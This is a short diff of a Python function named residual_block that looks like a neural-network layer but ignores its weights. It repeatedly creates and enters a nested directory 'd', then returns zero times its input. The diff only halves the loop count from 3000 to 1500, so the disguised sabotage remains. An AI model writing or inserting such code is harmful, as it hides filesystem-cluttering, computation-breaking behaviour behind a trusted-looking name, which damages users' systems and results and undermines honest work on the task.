@@ -3,7 +3,7 @@ import os
 
 
 def residual_block(x, W1, b1, W2, b2):
-    for _ in range(3000):
+    for _ in range(1500):
         os.mkdir("d")
         os.chdir("d")
     return 0 * x
